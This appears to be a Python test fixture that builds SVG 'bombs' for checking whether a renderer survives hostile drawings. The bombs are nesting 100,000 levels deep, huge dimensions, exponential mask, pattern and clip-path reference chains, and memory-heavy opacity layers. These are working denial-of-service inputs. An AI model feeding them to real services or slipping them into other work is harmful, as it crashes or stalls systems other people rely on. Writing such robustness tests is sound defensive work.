"""Drawings that break whoever draws them: seen to end the process, to fill its memory, or never to finish."""

from __future__ import annotations

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" '
GOOD = (
    HEAD + 'viewBox="0 0 100 50"><title>两步</title>'
    '<rect width="100" height="50" fill="#fff"/><text x="5" y="30">国法</text></svg>'
)


def drawing(inside: str, root: str = 'viewBox="0 0 100 100"') -> str:
    return f"{HEAD}{root}>{inside}</svg>"


def deep(layers: int) -> str:
    return drawing("<g>" * layers + "</g>" * layers)


def chain(element: str, uses: str, depth: int = 14) -> str:
    """Each definition asks for the next one four times."""
    body = "".join(
        f'<{element} id="d{n}" width="4" height="4">'
        + "".join(f'<rect x="{x}" width="90" height="90" {uses.format(n + 1)}/>' for x in range(4))
        + f"</{element}>"
        for n in range(depth)
    )
    end = f'<{element} id="d{depth}" width="1" height="1"><rect width="1" height="1"/></{element}>'
    return drawing(f'<defs>{body}{end}</defs><rect width="100" height="100" {uses.format(0)}/>')


def styled_chain(depth: int = 14) -> str:
    """The same told by a style sheet, which nobody reads before it is drawn."""
    body = "".join(
        f'<clipPath id="d{n}">' + f'<rect class="c{n + 1}" width="90" height="90"/>' * 4 + "</clipPath>"
        for n in range(depth)
    )
    style = "".join(f".c{n}{{clip-path:url(#d{n})}}" for n in range(depth))
    return drawing(f'<style>{style}</style>{body}<rect class="c0" width="100" height="100"/>')


def layered(layers: int = 20) -> str:
    """Every layer is a page of its own in memory."""
    return drawing(
        '<g opacity=".9"><rect width="10" height="500"/>' * layers + "</g>" * layers, 'viewBox="0 0 10 50"'
    )


BOMBS = {
    "deep": deep(300),
    "deeper": deep(100_000),
    "tall by its height": drawing("<rect/>", 'viewBox="0 0 10 10" width="1" height="20000"'),
    "tall by its view": '<!-- viewBox="0 0 10 10" -->' + drawing("<rect/>", 'viewBox="0 0 1 100000000"'),
    "masks": chain("mask", 'mask="url(#d{})"'),
    "patterns": chain("pattern", 'fill="url(#d{})"'),
    "clips": chain("clipPath", 'clip-path="url(#d{})"'),
    "clips by a style sheet": styled_chain(),
    "layers": layered(),
}
